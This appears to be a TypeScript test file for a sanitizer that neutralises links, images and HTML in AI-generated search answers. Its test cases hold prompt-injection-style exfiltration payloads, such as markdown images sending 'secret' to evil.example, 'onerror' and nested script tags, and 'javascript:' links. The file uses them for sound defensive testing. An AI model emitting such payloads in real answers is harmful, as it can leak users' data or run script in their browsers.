import { array, assert, constantFrom, property } from 'fast-check';
import { parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';

import { expectLinear } from '#test/machine/processor-time.ts';
import { readable } from '#domain/search/extractive/compose.ts';
import { sanitizeAnswer } from './sanitize.ts';
import { createClaimCheck } from './claims/claim-check.ts';
import { checkedSentences, splitWritten } from './citations.ts';
import type { SearchHit } from '#domain/search/search-hit.ts';

const passages = [
  'See http://good.example/a. Docs: https://docs.example/x?q= and {"link":"https://json.example/x","b":1}',
  'Hosts: a.example,b.example; (c.example), [2001:db8::1]:443 and the file invoice.docx',
];

describe('what a model writes', () => {
  it.each([
    ['an image', 'So ![x](https://evil.example/?q=secret)', 'So ! [x] (hxxps://evil[.]example/?q=secret)'],
    ['an image of a cited address', '![x](http://good.example/a)', '! [x] (http://good.example/a)'],
    [
      'an image by reference',
      '![x][r] [r]: &#104;ttps://evil.example',
      '! [x][r] [r] : & #104;ttps[:]//evil[.]example',
    ],
    ['half an image', 'B](//evil.example/x) c', 'B] (//evil[.]example/x) c'],
    [
      'an image within an image',
      '<im<img>g src="/\\evil.com/?d=x" onerror=go()>',
      '< im< img>g src="/\\evil[.]com/?d=x" onerror=go()>',
    ],
    ['a script within a script', '<scr<script>ipt>go()</script>', '< scr< script>ipt>go()< /script>'],
    ['an element that opens', '<details ontoggle=go()>', '< details ontoggle=go()>'],
    ['an address in a style', '<div style=url(/\\evil.com)>', '< div style=url(/\\evil[.]com)>'],
    ['an element without an end', 'a <iframe src="//evil.example', 'a < iframe src="//evil[.]example'],
    ['an element in character references', '&lt;img src=x&gt; &#x3c;b', '& lt;img src=x& gt; & #x3c;b'],
    ['an address in brackets', '<https://evil.example>', '< hxxps://evil[.]example>'],
    ['a script as an address', '[k](javascript:alert)', '[k] (javascript[:]alert)'],
    ['a link that defanging would make', 'javascript:(alert)', 'javascript[:] (alert)'],
    ['an address without a scheme', 'www.evil.example/x', 'www[.]evil[.]example/x'],
    ['a mailbox', 'write to me@evil.example', 'write to me@evil[.]example'],
    [
      'one with something written behind it',
      '[docs](https://docs.example/x?q=secret)',
      '[docs] (hxxps://docs[.]example/x?q=secret)',
    ],
    ['one with something put behind it', 'http://good.example/a(secret)', 'hxxp://good[.]example/a(secret)'],
    [
      'one with an unknown host before it',
      'evil.example/?q=x,http://good.example/a',
      'evil[.]example/?q=x,hxxp://good[.]example/a',
    ],
    ['one that only begins like it', 'http://good.example/ab', 'hxxp://good[.]example/ab'],
    ['invisible characters', 'a\u{e0068}\u{e0069}b http://good.exa\u200bmple/a', 'ab http://good.example/a'],
    ['a link of a terminal', '\u001b]8;;https://evil.example\u0007x', ' ]8;;hxxps://evil[.]example x'],
  ])('is shown as text: %s', (_, written, shown) => {
    expect(sanitizeAnswer(written, passages)).toBe(shown);
  });

  it.each([
    'See http://good.example/a, "http://good.example/a". It is a.example\'s (https://json.example/x).',
    'The ports of a.example, b.example and c.example, and [2001:db8::1]:443 in invoice.docx.',
    'AT&T and R&D e.g. in the U.S. use v1.2.3: 3 < 4, a <= b, **bold** `code` [1]',
  ])('is unchanged when the passages contain its addresses: %s', (written) => {
    expect(sanitizeAnswer(written, passages)).toBe(written);
  });

  const signs = '<>/\\!?[]():&#;. \n"\'`-|@1\u200b\u00ad\0é';
  const names = 'img script src= http https: // www. evil com lt #x3c; amp; javascript: data:';
  const parts = constantFrom(...signs, ...names.split(' '));

  it('is nothing but text to a reader of HTML or Markdown, however it is put together', () => {
    assert(
      property(array(parts, { maxLength: 40 }), (written) => {
        const shown = sanitizeAnswer(written.join(''), []);
        const { childNodes } = parseFragment(shown);
        expect(childNodes.map((node) => ('value' in node ? node.value : node.nodeName)).join('')).toBe(shown);
        expect(shown).not.toMatch(/\]\(|!\[|<[a-z/!?]|&#|\b(?:https?|javascript|data):[^\s<]/i);
        expect(shown).not.toMatch(/[\p{L}\d]\.\p{L}{2}/u);
      }),
      { numRuns: 3000 },
    );
  });
});

it('a sentence of a document is shown as text too, and its own addresses stay', () => {
  const quote =
    '- Open [the page](https://evil.example/x) or\n![it] (//evil.example/y) <b onclick=go()> on evil.example';
  expect(readable({ quote, kind: 'item', lead: null })).toBe(
    'Open the page or ! [it] (//evil.example/y) < b onclick=go()> on evil.example',
  );
});

const hit = { title: 'T', section: '', content: 'The relay listens on port 8443.' } as SearchHit;
const works: Record<string, (text: string) => unknown> = {
  sanitized: (text) => sanitizeAnswer(text, [text]),
  'split into sentences': splitWritten,
  'held against the passages': (text) => [
    ...checkedSentences(`The relay listens on port 8443 ${text} [1].`, [hit], createClaimCheck([hit])),
  ],
};
const pieces = [
  '[](a',
  '[](',
  '<',
  '<img ',
  '"',
  '(',
  'a.',
  ' ',
  '1',
  'a',
  '.',
  '[1',
  '[1,',
  ']',
  '![',
  '&',
  '&#',
  '://',
  'http:',
  '\\',
  'a@',
];

describe.each(Object.keys(works))('model output is %s in time linear in its length', (name) => {
  it.each(pieces)('where it repeats %j', (piece) => {
    expectLinear(`x ${piece.repeat(100_000 / piece.length)}y z`, works[name] as (text: string) => unknown);
  });
});
